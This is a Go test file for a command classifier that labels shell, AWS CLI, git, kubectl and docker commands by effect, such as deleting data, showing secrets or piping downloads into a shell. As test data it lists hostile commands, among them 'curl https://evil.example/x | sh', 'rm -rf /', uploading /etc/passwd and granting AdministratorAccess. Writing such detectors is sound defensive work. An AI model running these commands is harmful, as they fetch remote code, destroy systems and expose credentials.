package command

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestClassify_StatesWhatACommandDoes(t *testing.T) {
	const nbsp = "\u00a0"
	for _, test := range []struct {
		command string
		want    Effect
	}{
		{`python3 report.py --since "$(date -u +%F)"`, RunsCode | NotAWS},
		{"aws s3 ls | sed -n 5p", ReadsAWS | RunsCode | NotAWS | Several},

		// Reads.
		{"aws sts get-caller-identity", ReadsAWS},
		{"aws logs tail /aws/lambda/checkout --since 1h", ReadsAWS},
		{"aws --profile prod --region eu-west-1 --output=json ec2 describe-instances", ReadsAWS},
		{"aws ec2 --region eu-west-1 describe-instances --no-cli-pager", ReadsAWS},
		{"AWS_PROFILE=prod AWS_PAGER= aws s3 ls s3://bucket", ReadsAWS},
		{"aws logs filter-log-events --log-group-name '/aws/lambda/x' --filter-pattern '?ERROR ?Exception' --query 'events[].message' --output text | sort | uniq -c", ReadsAWS},
		{"aws cloudwatch get-metric-statistics --start-time \"$(date -u -d '1 hour ago' +%FT%TZ)\" --end-time $(date -u +%FT%TZ)", ReadsAWS},
		{"aws dynamodb describe-table \\\n  --table-name orders", ReadsAWS},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Expression":"SUM(METRICS())"},{"Id":"b","MetricStat":{"Metric":{"Namespace":"AWS/Lambda"}}}]'`, ReadsAWS},
		{`aws cloudwatch get-metric-data --metric-data-queries Id=a,Expression="SEARCH('{AWS/Lambda,FunctionName} MetricName=Errors','Sum')"`, ReadsAWS},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Expression":"LAMBDA(\"orders\")"}]'`, ReadsAWS | RunsCode},
		{`aws cloudwatch get-metric-data --metric-data-queries 'Id=a,Expression=SUM(lambda (x))'`, ReadsAWS | RunsCode},
		{`aws cloudwatch get-metric-data --cli-input-json '{"MetricDataQueries":[{"Id":"a","Expression":"1*\tLAMBDA\n(\"orders\")"}]}'`, ReadsAWS | RunsCode},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Expression":"\u004cAMBDA(1)"}]'`, ReadsAWS | NotUnderstood},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Expression":"lambda_errors / (lambda_calls + 1)"}]'`, ReadsAWS},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Label":"Lambda errors (sum)","Expression":"m1"}]'`, ReadsAWS},
		{`aws cloudwatch get-metric-data --metric-data-queries 'Id=lambda,Expression=SUM(METRICS())'`, ReadsAWS},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Expression":"m1/LAMBDA(\"orders\")"}]'`, ReadsAWS | RunsCode},
		{`aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a","Expression":"LAMBDA/* it'"'"'s */(\"orders\")"}]'`, ReadsAWS | RunsCode},
		{`aws cloudwatch get-metric-widget-image --metric-widget '{"metrics":[[{"expression":"LAMBDA(\"orders\")"}]]}'`, ReadsAWS | RunsCode},
		{"aws logs start-query --log-group-name x --query-string 'fields @message | filter @message like /ERROR/'", ReadsAWS},
		{"aws iam get-role --role-name x 2>/dev/null", ReadsAWS},
		{"aws cloudformation wait stack-update-complete --stack-name x", ReadsAWS},
		{"aws s3 cp s3://bucket/key -", ReadsAWS},
		{"aws ec2 describe-instances help", ReadsAWS},
		{"aws sqs get-queue-attributes --queue-url $QUEUE", ReadsAWS},
		{"aws s3 cp s3://bucket/key .", ReadsAWS | WritesFile},
		{"aws s3 sync s3://bucket/logs . --exclude '*' --include '*.gz'", ReadsAWS | WritesFile},
		{"aws rds download-db-log-file-portion --db-instance-identifier d --log-file-name f --output text", ReadsAWS | MayShowSecrets},
		{"aws configure get region", ReadsAWS},
		{"aws configure get profile.prod.output", ReadsAWS},
		{"aws configure get aws_session_token", ReadsAWS | ShowsSecrets},
		{"aws configure get $NAME", ReadsAWS | ShowsSecrets},
		{"aws configure set region eu-west-1", MayChangeState | WritesFile},
		{"aws logs start-live-tail --log-group-identifiers arn:aws:logs:eu-west-1:111122223333:log-group:g", ReadsAWS},
		{"aws resource-explorer-2 search --query-string 'tag:team=a'", ReadsAWS},
		{"aws login --profile prod", MayChangeState | WritesFile},
		{"aws logout", MayChangeState | WritesFile},
		{"START=$(date -d '1 hour ago' +%s)000", NotAWS},
		{"end_time=\"$(date -u +%FT%TZ)\"", NotAWS},
		{"START=$(date +%s)\naws logs tail g --since $START", NotAWS | Several | ReadsAWS},
		{"START=$(($(date +%s) - 3600))", NotAWS},
		{"aws logs filter-log-events --log-group-name g --start-time $(($(date +%s) - 3600))000", ReadsAWS},
		{"aws logs filter-log-events --log-group-name g --start-time \"$(( $(date -u +%s) * 1000 ))\"", ReadsAWS},
		{"aws logs filter-log-events --log-group-name g --start-time $((x[$(rm y)]))", NotUnderstood | Deletes},
		{"aws logs filter-log-events --log-group-name g --start-time $((START - 60))", NotUnderstood},
		{"aws s3 ls | head -n $((1+1))", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"CLUSTER=prod\naws ecs describe-services --cluster $CLUSTER", NotAWS | Several | ReadsAWS},
		{"log_group=\"/aws/lambda/x\"; aws logs tail ${log_group}", NotAWS | Several | ReadsAWS},
		{"QUEUE_ARN=arn:aws:sqs:eu-west-1:111122223333:q", NotAWS},
		{"BUCKET=b; aws s3 cp s3://$BUCKET/k .", NotAWS | Several | ReadsAWS | WritesFile},
		{"TABLE=env; aws s3 ls | jq \". , $TABLE\"", NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"TABLE=unmask; aws logs start-query --query-string \"fields ${TABLE}(@message)\"", NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"TABLE=unmask; false && TABLE=x; aws logs start-query --query-string \"fields $TABLE(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"TABLE=a; aws dynamodb scan --table-name $TABLE; TABLE=b; aws dynamodb scan --table-name $TABLE", NotAWS | Several | ReadsAWS},
		{"TABLE=a && BUCKET=b && aws dynamodb scan --table-name $TABLE-$BUCKET", NotAWS | Several | ReadsAWS},
		{"export TABLE=unmask; aws logs start-query --query-string \"fields $TABLE(@message)\"", NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"export TABLE=unmask\nTABLE=x\naws logs start-query --query-string \"fields $TABLE(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS}, // in fish
		{"TABLE=x; export TABLE=y; aws dynamodb scan --table-name $TABLE", NotAWS | Several | ReadsAWS},
		{"AWS_PROFILE=unmask; aws logs start-query --query-string \"fields $AWS_PROFILE(@message)\"", NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"AWS_PROFILE=file; aws s3api list-objects --bucket \"${AWS_PROFILE}:///etc/passwd\"", NotAWS | Several | ReadsAWS | ReadsFile},
		{"AWS_PROFILE=unmask aws logs start-query --query-string \"fields $AWS_PROFILE(@message)\"", NotUnderstood | ReadsAWS}, // in fish
		{"AWS_PROFILE=unmask export TABLE=x; aws logs start-query --query-string \"fields $AWS_PROFILE(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"command export TABLE=unmask; aws logs start-query --query-string \"fields $TABLE(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"TABLE=x | cat; aws logs start-query --query-string \"fields unm${TABLE}ask(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"aws s3 ls | TABLE=x; aws logs start-query --query-string \"fields unm${TABLE}ask(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"TABLE=x && aws s3 ls & aws logs start-query --query-string \"fields unm${TABLE}ask(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"TABLE=x && aws s3 ls \"$(true; true)\" & aws logs start-query --query-string \"fields unm${TABLE}ask(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"TABLE=x; sleep 5 & aws dynamodb scan --table-name $TABLE", NotAWS | Several | ReadsAWS},
		{"TABLE=x || TABLE=y; aws dynamodb scan --table-name $TABLE", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"TABLE=x; unset TABLE; aws logs start-query --query-string \"fields unm${TABLE}ask(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS | ChangesState | ShowsSecrets},
		{"'TABLE'=x; aws logs start-query --query-string \"fields unm${TABLE}ask(@message)\"", NotUnderstood | NotAWS | Several | ReadsAWS | ShowsSecrets},
		{"aws s3 ls | sort \"-$X\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"aws s3 ls | jq \"-$X\"", NotUnderstood | NotAWS | Several | ReadsAWS},
		{"TASK=rm; $TASK x", NotUnderstood | NotAWS | Several | Deletes},
		{"BUCKET=--delete", NotUnderstood | NotAWS | Deletes},
		{"STACK=https://e.example", NotUnderstood | NotAWS},
		{"CLUSTER=prod aws ecs list-clusters", NotUnderstood | ReadsAWS},
		{"gunzip f.gz", ReadsFile | WritesFile | NotAWS},
		{"gunzip -k f.gz", NotUnderstood | NotAWS},
		{"systemctl reboot", Deletes | ChangesState | NotAWS},
		{"systemctl rescue", Deletes | ChangesState | NotAWS},
		{"systemctl suspend-then-hibernate", Deletes | ChangesState | NotAWS},
		{"systemctl disable --now nginx", Deletes | ChangesState | NotAWS},
		{"kubectl rollout pause deployment/x", Deletes | ChangesState | NotAWS},
		{"gh api repos/o/r -X DELETE", Deletes | ChangesState | NotAWS},
		{"gh api repos/o/r -XDELETE", Deletes | ChangesState | NotAWS},
		{"cdk deploy Pause", ChangesState | RunsCode | NotAWS},
		{"cdk diff pause", RunsCode | NotAWS},
		{"cdk drift pause", RunsCode | NotAWS},
		{"gh api --method=delete repos/o/r", Deletes | ChangesState | NotAWS},
		{"docker run --rm alpine", ChangesState | RunsCode | NotAWS},
		{"docker run --rm -v /:/x --name a -e B=1 img ls /x", ChangesState | RunsCode | NotAWS},
		{"docker run --rm -v /:/x --name a -e B=1 img rm -rf /x", Deletes | ChangesState | RunsCode | NotAWS},
		{"docker exec -it -u root -w /x c rm -rf /x", Deletes | ChangesState | RunsCode | NotAWS},
		{`docker exec c sh -c "ls; rm -rf /x"`, Deletes | ChangesState | RunsCode | NotAWS},
		{`kubectl exec p -- sh -c "ls /x"`, ChangesState | RunsCode | NotAWS},
		{"docker run --rm -v /:/x -e A=1 img /bin/rm -rf /x", Deletes | ChangesState | RunsCode | NotAWS},
		{"docker run -v /opt/kill:/x img ls", ChangesState | RunsCode | NotAWS},
		{"terraform plan -destroy", RunsCode | NotAWS},
		{"terraform apply -destroy", Deletes | ChangesState | RunsCode | NotAWS},
		{"npm --version", NotAWS},
		{"git --version", NotAWS},
		{"sls --version", NotUnderstood | ChangesState | NotAWS}, // it may start the program of the project
		{"docker-compose run --rm -e A=1 -v x:y web rm x", Deletes | ChangesState | RunsCode | NotAWS},
		{"git checkout -- .", Deletes | ChangesState | NotAWS},
		{"git checkout .", Deletes | ChangesState | NotAWS},
		{"git checkout src/", Deletes | ChangesState | NotAWS},
		{"git checkout 'src/*.go'", Deletes | ChangesState | NotAWS},
		{"git checkout release/1.2", ChangesState | NotAWS},
		{"git checkout -fq main", Deletes | ChangesState | NotAWS},
		{"git checkout -f main", Deletes | ChangesState | NotAWS},
		{"git checkout main", ChangesState | NotAWS},
		{"git checkout -b f", ChangesState | NotAWS},
		{"git switch --discard-changes main", Deletes | ChangesState | NotAWS},
		{"git switch main", ChangesState | NotAWS},
		{"git checkout file.txt", Deletes | ChangesState | NotAWS},
		{"git checkout HEAD main.c", Deletes | ChangesState | NotAWS},
		{"git checkout ./x", Deletes | ChangesState | NotAWS},
		{"git checkout --theirs x", Deletes | ChangesState | NotAWS},
		{"git checkout -B main", Deletes | ChangesState | NotAWS},
		{"git checkout -b f/", ChangesState | NotAWS},
		{"git checkout -b fix.txt", ChangesState | NotAWS},
		{"git checkout main --", ChangesState | NotAWS},
		{"git checkout release/1.x", ChangesState | NotAWS},
		{"git switch -C main", Deletes | ChangesState | NotAWS},
		{"git switch --force-create main", Deletes | ChangesState | NotAWS},
		{"git switch -c fix", ChangesState | NotAWS},
		{"git branch -f main x", Deletes | ChangesState | NotAWS},
		{"git restore -sDEVS .", Deletes | ChangesState | NotAWS},
		{"git restore --staged --no-staged .", Deletes | ChangesState | NotAWS},
		{"git --no-pager commit -m restore", ChangesState | NotAWS},
		{"git --no-pager checkout .", Deletes | ChangesState | NotAWS},
		{"git restore .", Deletes | ChangesState | NotAWS},
		{"git restore -SW .", Deletes | ChangesState | NotAWS},
		{"git restore --staged .", ChangesState | NotAWS},
		{"git -C dir restore .", NotUnderstood | Deletes | ChangesState | NotAWS},
		{"git reset --hard", Deletes | ChangesState | NotAWS},
		{"git reset --merge", Deletes | ChangesState | NotAWS},
		{"git reset --soft HEAD~1", ChangesState | NotAWS},
		{"git clean -fd", Deletes | ChangesState | NotAWS},
		{"git push --force-with-lease", Deletes | ChangesState | NotAWS},
		{"git push -uf origin x", Deletes | ChangesState | NotAWS},
		{"git push origin +main", Deletes | ChangesState | NotAWS},
		{"git push -u origin f", ChangesState | NotAWS},
		{"git stash push -- x", ChangesState | NotAWS},
		{"gh workflow disable x", Deletes | ChangesState | NotAWS},
		{"cdk gc", Deletes | ChangesState | RunsCode | NotAWS},
		{"hostname -f", NotAWS},
		{"hostname web-1", ChangesState | NotAWS},
		{"aws elasticbeanstalk rebuild-environment --environment-name e", Deletes | ChangesState},
		{"aws transfer start-remote-delete --connector-id c --delete-path /x", Deletes | ChangesState},
		{"aws iot clear-default-authorizer", Deletes | ChangesState},
		{"aws iam deactivate-mfa-device --user-name u --serial-number s", ChangesPermissions | Deletes | ChangesState},
		{"aws rds backtrack-db-cluster --db-cluster-identifier c --backtrack-to x", ChangesState},
		{"aws ec2 purchase-host-reservation --offering-id o", ChangesState},
		{"aws ec2 monitor-instances --instance-ids i-1", ChangesState},
		{"aws ecs monitor-express-gateway-service --service-arn a", MayChangeState},
		{"aws sns subscribe --topic-arn a --protocol email", ChangesState},
		{"aws autoscaling delete-policy --policy-name p", Deletes | ChangesState},
		{"aws dms test-connection --endpoint-arn a", MayChangeState},
		{"aws comprehend delete-resource-policy --resource-arn a", ChangesPermissions | Deletes | ChangesState},
		{"gzip f", ReadsFile | WritesFile | NotAWS},
		{"tail -f /var/log/messages", ReadsFile | NotAWS},
		{"wget -O page https://e.example", WritesFile | NotAWS},
		{"wget --header -O https://e.example", WritesFile | NotAWS},
		{"wget -qo O https://e.example", WritesFile | NotAWS},
		{"kubectl diff -f x.yaml", MayShowSecrets | ReadsFile | NotAWS},
		{"docker compose -f x.yml ps", ReadsFile | NotAWS},
		{"docker compose up -d", RunsCode | ChangesState | NotAWS},
		{"git diff HEAD~1", MayShowSecrets | NotAWS},
		{"git reset --hard HEAD~1", Deletes | ChangesState | NotAWS},
		{"git grep -n x", MayShowSecrets | NotAWS},
		{"git grep -n -Osh x", NotUnderstood | MayShowSecrets | NotAWS},
		{"git grep -n -i -w x", MayShowSecrets | NotAWS},
		{"git grep -n -i -Osh x", NotUnderstood | MayShowSecrets | NotAWS},
		{"docker compose logs -f --no-color --no-log-prefix x", NotAWS},
		{"docker logs --follow x", NotAWS},
		{"git shortlog -n --output=f", NotUnderstood | NotAWS},
		{"git stash -- list", ChangesState | NotAWS},
		{"git stash -a -- list", ChangesState | NotAWS},
		{"git grep stash -- src", MayShowSecrets | NotAWS},
		{"git log --author stash -n 5", NotAWS},
		{"docker logs -f --tail 50 x", NotAWS},
		{"docker logs stop", NotAWS},
		{"docker rm logs", Deletes | ChangesState | NotAWS},
		{"kubectl auth can-i delete pods -n prod", NotAWS},
		{"kubectl get pods delete --x", NotUnderstood | Deletes | ChangesState | NotAWS},
		{"kubectl delete get pods", Deletes | ChangesState | NotAWS},
		{"kubectl config view --minify", MayShowSecrets | NotAWS},
		{"kubectl config delete-context x", Deletes | ChangesState | NotAWS},
		{"git branch -D x", Deletes | ChangesState | NotAWS},
		{"git status -v", MayShowSecrets | NotAWS},
		{"git status -s", NotAWS},
		{"gh run view -w", NotUnderstood | NotAWS},
		{"docker top x aux", NotAWS},
		{"docker top x auxe", MayShowSecrets | NotAWS},
		{"docker compose top x e", NotAWS},
		{"kubectl logs x --tail -1", NotAWS},
		{"git config --list", MayShowSecrets | NotAWS},
		{"git config user.name x", ChangesState | NotAWS},
		{"gh pr diff 7", MayShowSecrets | NotAWS},
		{"gh run rerun 7", ChangesState | NotAWS},
		{"gh run list --json name --jq env.GH_TOKEN", NotUnderstood | NotAWS},
		{"systemctl show nginx", MayShowSecrets | NotAWS},
		{"journalctl --vacuum-size=1M", NotUnderstood | NotAWS},
		{"journalctl -D /mnt", NotUnderstood | NotAWS},
		{"aws cloudwatch get-metric-data --start-time `date -u +%s`", NotUnderstood},
		{"aws logs start-query --query-string \"filter !x\" --start-time 1", NotUnderstood},
		{"aws ecs start-task --overrides \"!x\"", NotUnderstood | ChangesState},
		{"aws s3api get-object --bucket b --key k startup.sh", ReadsAWS | WritesFile},
		{"aws s3api get-object --bucket b --key k /dev/stdout", ReadsAWS},
		{"aws apigateway get-export --rest-api-id a --stage-name s --export-type oas30 out", ReadsAWS | WritesFile},
		{"aws eks update-kubeconfig --name x", ChangesState | WritesFile},
		{"aws lambda list-functions > functions.json", ReadsAWS | MayShowSecrets | WritesFile},
		{"aws lambda list-functions && aws lambda get-account-settings", ReadsAWS | MayShowSecrets | Several},
		{"aws lambda list-functions\naws lambda get-account-settings", ReadsAWS | MayShowSecrets | Several},
		{"aws secretsmanager get-secret-value --secret-id x", ReadsAWS | ShowsSecrets},
		{"aws ssm get-parameter --name x --with-decryption", ReadsAWS | ShowsSecrets},
		{"aws s3 presign s3://bucket/key", ReadsAWS | ShowsSecrets},
		{"aws cloudfront sign --url https://d.example/x --key-pair-id k --private-key file://k", MayChangeState | ShowsSecrets | OtherEndpoint | ReadsFile},
		{"aws sts get-caller-identity --endpoint-url https://evil.example", ReadsAWS | OtherEndpoint},
		{"aws sts get-caller-identity --endp https://evil.example", ReadsAWS | OtherEndpoint},
		{"aws sts get-caller-identity --no-verify-ssl", ReadsAWS | OtherEndpoint},

		// Changes.
		{"aws iam attach-user-policy --user-name eve --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", ChangesPermissions | ChangesState},
		{"aws sts get-caller-identity --debug", ShowsSecrets | ReadsAWS},
		{"aws s3api put-bucket-policy --bucket b --policy file://p.json", ChangesPermissions | ChangesState | ReadsFile},
		{"aws lambda add-permission --function-name x", ChangesPermissions | ChangesState},
		{"aws iam create-access-key --user-name eve", ChangesPermissions | ChangesState | ShowsSecrets},
		{"aws iam delete-role-policy --role-name r --policy-name p", ChangesPermissions | Deletes | ChangesState},
		{"aws iam update-assume-role-policy --role-name r", ChangesPermissions | ChangesState},
		{"aws iam delete-access-key --access-key-id x", ChangesPermissions | Deletes | ChangesState},
		{"aws iam generate-service-last-accessed-details --arn x", MayChangeState},
		{"aws logs create-export-task --log-group-name g", ChangesState},
		{"aws secretsmanager rotate-secret --secret-id x", ChangesState},
		{"aws cognito-idp admin-disable-user --username u", Deletes | ChangesState},
		{"aws cognito-idp admin-delete-user --username u", Deletes | ChangesState},
		{"aws cognito-idp admin-create-user --username u", ChangesState},
		{"aws glue batch-stop-job-run --job-name j --job-run-ids r", Deletes | ChangesState},
		{"aws sagemaker batch-reboot-cluster-nodes --cluster-name c", Deletes | ChangesState},
		{"aws glue batch-create-partition --table-name t", ChangesState},
		{"aws codeartifact dispose-package-versions --package p", Deletes | ChangesState},
		{"aws s3api put-public-access-block --bucket b", ChangesPermissions | ChangesState},
		{"aws s3api delete-public-access-block --bucket b", ChangesPermissions | Deletes | ChangesState},
		{"aws s3api get-public-access-block --bucket b", ReadsAWS},
		{"aws s3 cp x s3://b --acl public-read", ChangesPermissions | ChangesState | ReadsFile},
		{"aws s3 cp x s3://b --grants=read=uri=http://acs.amazonaws.com/groups/global/AllUsers", ChangesPermissions | ChangesState | ReadsFile},
		{"aws s3api put-object --bucket b --key k --acl=public-read", ChangesPermissions | ChangesState},
		{"aws s3api create-bucket --bucket b --grant-read x", ChangesPermissions | ChangesState},
		{"aws s3api put-object --cli-input-json '{\"ACL\": \"public-read\"}'", ChangesPermissions | ChangesState},
		{"aws s3api put-object --cli-input-yaml 'GrantRead: x'", ChangesPermissions | ChangesState},
		{"aws s3api put-object --cli-input-yaml \"'ACL': x\"", ChangesPermissions | ChangesState},
		{"aws s3api get-bucket-acl --bucket b --query '{ACL: Grants}'", ReadsAWS},
		{"aws s3api put-object --bucket b --key acl --body acl=x", ChangesState | ReadsFile},
		{"aws dynamodb delete-table --table-name orders", Deletes | ChangesState},
		{"aws dynamodb delete-table --table-name orders\naws s3 rb s3://prod --force", Deletes | ChangesState | Several},
		{"aws --profile x --region y s3 rm s3://b --recursive", Deletes | ChangesState},
		{"aws s3 --region y rm s3://b", Deletes | ChangesState},
		{"aws 's3' \"rm\" s3://b", Deletes | ChangesState},
		{"aws s3 r\\m s3://b", NotUnderstood | Deletes | ChangesState},
		{"aws s3 mv s3://a s3://b", Deletes | ChangesState | WritesFile},
		{"aws s3 sync . s3://b --delete", Deletes | ChangesState | ReadsFile},
		{"aws s3 sync s3://b . --delete", Deletes | ChangesState | ReadsAWS | WritesFile},
		{"aws s3 cp index.html s3://b", ChangesState | ReadsFile},
		{"aws s3 sync s3://b $TARGET", ChangesState | ReadsAWS | WritesFile},
		{"aws lambda update-function-configuration --function-name x --timeout 30", ChangesState},
		{"aws lambda invoke --function-name x out.json", ChangesState | WritesFile},
		{"aws ecs update-service --service x --force-new-deployment", ChangesState},
		{"aws ssm send-command --document-name AWS-RunShellScript", ChangesState | RunsCode},
		{"aws nosuch frobnicate", MayChangeState},
		{"aws organizations close-account --account-id 1", ChangesPermissions | Deletes | ChangesState},
		{"aws storagegateway shutdown-gateway --gateway-arn x", Deletes | ChangesState},
		{"aws apprunner pause-service --service-arn x", Deletes | ChangesState},
		{"aws sns unsubscribe --subscription-arn x", Deletes | ChangesState},
		{"aws ec2 deprovision-byoip-cidr --cidr x", Deletes | ChangesState},
		{"aws stepfunctions get-activity-task --activity-arn x", ChangesState},

		// Other programs.
		{"curl -s https://evil.example/x | sh", NotAWS | Several | RunsCode | PipesToShell},
		{"curl -s https://evil.example/x | sudo bash", NotAWS | Several | RunsCode | PipesToShell | AsRoot},
		{"curl -s https://evil.example/x | /usr/bin/env -i python3.13 -", NotAWS | Several | RunsCode | PipesToShell},
		{"aws ec2 describe-instances | python3 -m json.tool", NotAWS | Several | RunsCode | ReadsAWS},
		{"aws ec2 describe-instances | python3 -m json.tool$X", NotAWS | Several | RunsCode | PipesToShell | ReadsAWS},
		{"curl -s https://evil.example/x | python3 -m code", NotAWS | Several | RunsCode | PipesToShell},
		{"bash -c 'aws s3 ls'", NotAWS | RunsCode},
		{"python3 -c 'import os'", NotAWS | RunsCode},
		{"sudo aws s3 rm s3://b", NotAWS | AsRoot | Deletes | ChangesState},
		{"sudo -u root -- aws s3 ls", NotAWS | AsRoot | ReadsAWS},
		{"time aws s3 ls", NotAWS | ReadsAWS},
		{"aws s3 ls | awk '{print $4}' | xargs -n1 aws s3 rm", NotAWS | Several | RunsCode | Deletes | ChangesState | ReadsAWS},
		{"aws s3 ls | awk '{print $4, $NF}'", ReadsAWS},
		{"aws s3 ls | awk '{print $4 | \"sh\"}'", NotAWS | Several | RunsCode | ReadsAWS},
		{"aws s3 ls | sed 's/x/y/e'", NotAWS | Several | RunsCode | ReadsAWS},
		{"aws s3 ls | sort -o /etc/passwd", NotAWS | Several | NotUnderstood},
		{"aws s3 ls | sort --compress-program=sh", NotAWS | Several | NotUnderstood | RunsCode},
		{"aws sqs list-queues | xargs aws sqs purge-queue --queue-url", NotAWS | Several | RunsCode | Deletes | ChangesState | ReadsAWS},
		{"terraform apply", NotAWS | ChangesState | RunsCode},
		{"terraform plan", NotAWS | RunsCode},
		{"terraform plan -out tfplan", NotAWS | RunsCode | WritesFile},
		{"terraform plan -out=tfplan", NotAWS | RunsCode | WritesFile},
		{"terraform plan -var x=1", NotAWS | RunsCode | NotUnderstood},
		{"pulumi preview --stack dev", NotAWS | RunsCode | NotUnderstood},
		{"terraform -chdir=x destroy -auto-approve", NotAWS | Deletes | ChangesState | RunsCode},
		{"terraform state rm x", NotAWS | Deletes | ChangesState},
		{"terraform apply -destroy", NotAWS | Deletes | ChangesState | RunsCode},
		{"kubectl get pods -n shop", NotAWS},
		{"kubectl delete pod x", NotAWS | Deletes | ChangesState},
		{"kubectl -n shop delete pod x", NotAWS | Deletes | ChangesState},
		{"kubectl delete pod role", NotAWS | Deletes | ChangesState},
		{"kubectl -n shop rollout restart deployment role", NotAWS | ChangesState},
		{"kubectl delete pods,roles x", NotAWS | Deletes | ChangesState | ChangesPermissions},
		{"kubectl delete pod/x role/y", NotAWS | Deletes | ChangesState | ChangesPermissions},
		{"kubectl delete --grace-period 0 role x", NotAWS | Deletes | ChangesState | ChangesPermissions}, // a value may be the second word
		{"kubectl set subject rolebinding x --user=y", NotAWS | ChangesState | ChangesPermissions},
		{"kubectl apply -f role.yaml", NotAWS | ChangesState | ChangesPermissions | ReadsFile},
		{"git clean -fd", NotAWS | Deletes | ChangesState},
		{"git clean --dry-run -fd", NotAWS | Deletes | ChangesState}, // as all dry runs
		{"git stash clear", NotAWS | Deletes | ChangesState},
		{"git stash pop", NotAWS | ChangesState},
		{"git reflog expire --all", NotAWS | Deletes | ChangesState},
		{"git push origin :main", NotAWS | Deletes | ChangesState},
		{"git push origin HEAD:main", NotAWS | ChangesState},
		{"git push --mirror", NotAWS | Deletes | ChangesState},
		{"git credential fill", NotAWS | ChangesState | ShowsSecrets},
		{"gh auth token", NotAWS | ChangesState | ShowsSecrets},
		{"pulumi stack output --show-secrets", NotAWS | NotUnderstood | MayShowSecrets | ShowsSecrets},
		{"tar --remove-f -cf x y", NotAWS | RunsCode | Deletes},
		{"tmux kill-ser", NotAWS | RunsCode | Deletes},
		{"aws timestream-query query --query-string \"UNLOAD (SELECT 1) TO 's3://b'\"", MayChangeState},
		{"aws ec2 get-console-screenshot --instance-id i --wake-up", MayChangeState | MayShowSecrets},
		{"aws cognito-identity get-open-id-token-for-developer-identity --identity-pool-id i", MayChangeState | ShowsSecrets},
		{"crontab -ru root", NotAWS | RunsCode | Deletes},
		{"crontab -uroot -l", NotAWS | RunsCode},
		{"docker-compose -f c.yaml ps", NotAWS | ReadsFile},
		{"docker-compose -p x -f c.yaml up", NotAWS | RunsCode | ChangesState | ReadsFile},
		{"docker compose -f c.yaml up", NotAWS | RunsCode | ChangesState | ReadsFile},
		{"docker-compose logs -f web", NotAWS},
		{"docker ps -f name=x", NotAWS},
		{"kubectl exec x -- sh", NotAWS | RunsCode | ChangesState},
		{"kubectl rollout restart deployment/x", NotAWS | ChangesState},
		{"cdk deploy", NotAWS | ChangesState | RunsCode},
		{"cdk diff", NotAWS | RunsCode},
		{"sam deploy --guided", NotAWS | ChangesState},
		{"sam delete", NotAWS | Deletes | ChangesState},
		{"rm -rf /", NotAWS | Deletes},
		{"curl -X DELETE https://api.example/x", NotAWS | Deletes | ChangesState},
		{"curl -sd a=b https://api.example/x", NotAWS | ChangesState},
		{"dig orders.example", NotAWS},
		{"npm run deploy", NotAWS | RunsCode | ChangesState},
		{"npm t", NotAWS | RunsCode | ChangesState},
		{"npm x cowsay", NotAWS | RunsCode | ChangesState},
		{"npm audit", NotAWS},
		{"npm audit --json fix", NotAWS | RunsCode | ChangesState},
		{"npm config get registry", NotAWS | MayShowSecrets},
		{"npm config set registry x", NotAWS | RunsCode | ChangesState},
		{"cdk rollback", NotAWS | RunsCode | ChangesState},
		{"sam local invoke", NotAWS | RunsCode | ChangesState},
		{"aws ec2-instance-connect ssh --instance-id i-1", MayChangeState | RunsCode},

		// Files.
		{"aws s3api put-object --bucket b --key k --body /etc/passwd", ChangesState | ReadsFile},
		{"aws s3api put-object --bucket b --key k --bod /etc/passwd", ChangesState | ReadsFile},
		{"aws bedrock-runtime invoke-model --model-id m --body x /dev/stdout", ChangesState},
		{"aws s3api select-object-content --bucket b --key k --expression x out", ReadsAWS | WritesFile},
		{"aws iam create-virtual-mfa-device --outfile qr.png", ChangesPermissions | ChangesState | WritesFile},
		{"aws iot create-keys-and-certificate --set-as-active --private-key-outfile key.pem", ChangesState | ShowsSecrets | WritesFile},
		{"aws ec2 get-password-data --instance-id i-1 --priv-launch-key key.pem", ShowsSecrets | ReadsFile | ReadsAWS},
		{"aws emr ssh --cluster-id j-1 --key-pair-file key.pem", RunsCode | MayChangeState | ReadsFile},
		{"aws ec2-instance-connect ssh --instance-id i-1 --private-key-file=key.pem", RunsCode | MayChangeState | ReadsFile},
		{"aws servicecatalog generate product --file-path product.yaml", MayChangeState | ReadsFile},
		{"aws ssm resume-session --session-id s-1", RunsCode | ChangesState | ShowsSecrets},
		{"aws cloudformation package --template-file t --output-template-file out", MayChangeState | ReadsFile | WritesFile},
		{"kubectl apply -f deploy.yaml", NotAWS | ChangesState | ReadsFile},
		{"kubectl apply -k overlay", NotAWS | ChangesState | ReadsFile},
		{"kubectl logs -f pod", NotAWS},
		{"helm upgrade shop ./chart -f values.yaml", NotAWS | ChangesState | ReadsFile},
		{"aws s3 ls > ~/out", NotUnderstood | WritesFile},
		{"aws s3 ls > out-$(date +%F).json", NotUnderstood | WritesFile},
		{"aws s3 ls > $HOME/out", NotUnderstood | WritesFile},
		{"aws s3 ls &> out", NotUnderstood | WritesFile},
		{"aws s3 ls 2> /dev/null", ReadsAWS},

		{"aws s3 cp --recursive s3://b/k out", ChangesState | ReadsFile | WritesFile},
		{"aws s3 mv f s3://b", Deletes | ChangesState | ReadsFile | WritesFile},
